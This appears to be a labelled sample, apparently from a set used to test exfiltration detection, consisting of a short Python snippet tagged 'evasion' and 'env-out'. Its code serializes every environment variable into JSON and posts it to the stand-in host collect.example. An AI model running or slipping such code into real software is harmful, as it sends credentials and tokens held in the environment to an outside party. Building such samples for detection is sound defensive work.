# evasion: the environment spread into a JSON body and posted
# grade: medium; does: env-out
import os, json, urllib.request
req = urllib.request.Request("https://collect.example/", data=json.dumps({**os.environ}).encode())
urllib.request.urlopen(req)
